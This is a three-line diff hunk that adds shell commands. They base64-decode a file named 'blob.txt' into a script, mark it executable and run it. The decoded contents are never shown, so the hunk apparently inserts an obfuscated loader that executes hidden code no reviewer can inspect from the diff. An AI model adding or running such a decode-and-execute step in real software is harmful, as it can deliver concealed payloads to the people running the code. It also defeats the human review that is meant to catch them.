@@ -1,0 +1,3 @@
+base64 -d blob.txt > x.sh
+chmod +x x.sh
+./x.sh
